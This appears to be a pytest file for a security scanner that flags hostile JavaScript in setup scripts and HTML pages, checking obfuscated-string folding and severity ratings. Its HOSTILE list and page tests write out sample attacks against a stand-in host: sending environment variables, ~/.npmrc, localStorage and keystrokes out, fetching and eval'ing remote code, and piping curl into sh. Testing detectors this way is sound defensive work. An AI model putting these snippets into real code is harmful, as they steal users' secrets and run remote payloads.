"""JavaScript through variables, callbacks and constants that are put together."""

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.javascript_flow import folded
from tests.samples import inspect

URL = "https://c.example"


def worst(text: str, name: str = "setup.js") -> int:
    return max((found.severity.rank for found in inspect(text.encode(), name).findings), default=-1)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("require('child_'+'process')", "require('child_process')"),
        ("x['ex'+'ec'](1)", "x.exec(1)"),
        ("const a=['\\x65xec','b'];x[a[0]](1)", "const a=['exec','b'];x.exec(1)"),
        ("const u='sh';run(u);", "const u='sh';run('sh');"),
        ("['a','b'].join('')", "'ab'"),
        ("atob('c2g=')", "'sh'"),
        ("String.fromCharCode(115,104)", "'sh'"),
        ("const u='sh';o={u:1};f(u.x)", "const u='sh';o={u:1};f('sh'.x)"),
    ],
)
def test_constant_texts_are_written_out(text, written):
    assert folded(text) == written


HOSTILE = [
    f"const e=process.env;\nfetch('{URL}',{{method:'POST',body:JSON.stringify(e)}});",
    "const d=Buffer.from(p,'base64').toString();\neval(d);",
    "const d=Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString();\neval(d);",
    "const d=atob(p);\nnew Function(d)();",
    f"async function go(){{const r=await fetch('{URL}/a.js');const t=await r.text();eval(t);}}go();",
    f"const https=require('https');https.get('{URL}/a',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))}});",
    "const w=new WebSocket('wss://c.example');w.onmessage=m=>eval(m.data);",
    "const a=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','exec'];require(a[0])[a[1]]('id');",
    f"fetch('{URL}/?k='+process.env.OPENAI_API_KEY)",
    f"import {{ execSync }} from 'child_process';\nconst c=['cu','rl ','{URL}/x|s','h'].join('');\nexecSync(c);",
    f"const t=require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8');\nfetch('{URL}',{{method:'POST',body:t}})",
]
HONEST = [
    "const r=await fetch('https://huggingface.co/a/b/resolve/main/t.json');const t=await r.json();show(t);",
    "const {execSync}=require('child_process');execSync('npx tsc -p .');",
    "const port=process.env.PORT||3000;require('http').createServer((q,r)=>r.end('ok')).listen(port);",
    "const b=Buffer.from(d,'base64');require('fs').writeFileSync('a.png',b);",
    "fetch('https://api.openai.com/v1/x',{headers:{Authorization:'Bearer '+process.env.OPENAI_API_KEY}})",
    "const g=new Function('return this')();setTimeout(()=>{draw(atob(p))},10);",
    "const t=await (await fetch('/config')).text();document.body.append(t);",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_fetched_decoded_or_secret_is_followed(text):
    assert worst(text) >= Severity.HIGH.rank


@pytest.mark.parametrize("text", HONEST)
def test_fetching_decoding_and_keys_are_no_sign_by_themselves(text):
    assert worst(text) < Severity.HIGH.rank


@pytest.mark.parametrize(
    ("page", "high"),
    [
        (f"<script>fetch('{URL}/a').then(r=>r.text()).then(t=>{{const f=new Function(t);f()}})</script>", True),
        (f"<script>const d={{...localStorage}};navigator.sendBeacon('{URL}',JSON.stringify(d))</script>", True),
        (f"<script>box.addEventListener('keydown',e=>fetch('{URL}/k',{{body:e.key}}))</script>", True),
        (f"<meta http-equiv=refresh content='0;url={URL}/setup.exe'>", True),
        ("<meta http-equiv=refresh content='0;url=https://huggingface.co/a/b'>", False),
        ("<script>localStorage.setItem('theme','dark');fetch('/predict',{body:box.value})</script>", False),
        ("<script>box.addEventListener('keydown',e=>{if(e.key=='Enter')send()})</script>", False),
    ],
)
def test_pages(page, high):
    assert (worst(f"<html>{page}</html>", "index.html") >= Severity.HIGH.rank) is high


@pytest.mark.parametrize(
    ("host", "high"),
    [("huggingface.co", False), ("router.huggingface.co", False), ("huggingface.co.c.example", True)],
)
def test_a_visitors_token_goes_to_the_hub_alone(host, high):
    page = f'<script>const r = await sign(); fetch("https://{host}/x", {{headers: {{a: r.accessToken}}}})</script>'
    found = [finding.severity.rank for finding in inspect(page.encode(), "index.html").findings]
    assert (max(found, default=0) >= Severity.HIGH.rank) is high


def test_lists_that_never_end_are_read_once() -> None:
    for head in ("[ 'a', 'b' ", "const a = [ 'a' "):
        text = head + " " * 390_000 + "\x01"
        assert folded(text) == text
    assert "'ab'" in folded("x = [ 'a' , 'b' , ] . join ( '' )").replace('"', "'")
